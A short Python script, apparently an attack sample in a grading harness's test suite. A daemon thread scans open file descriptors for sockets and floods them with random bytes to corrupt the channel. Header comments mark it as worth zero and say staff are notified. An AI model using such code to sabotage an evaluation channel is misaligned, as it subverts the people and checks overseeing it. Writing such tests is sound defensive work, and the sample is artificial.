# Aim: write rubbish to the channel from a thread while others work.
# Question: q2. Earns: 0. Staff are told: yes.
import os
import stat
import threading

from attack_parts import sample_noise  # noqa: F401


def channel():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass


def rubbish():
    while True:
        for number in channel():
            os.write(number, os.urandom(64))


threading.Thread(target=rubbish, daemon=True).start()
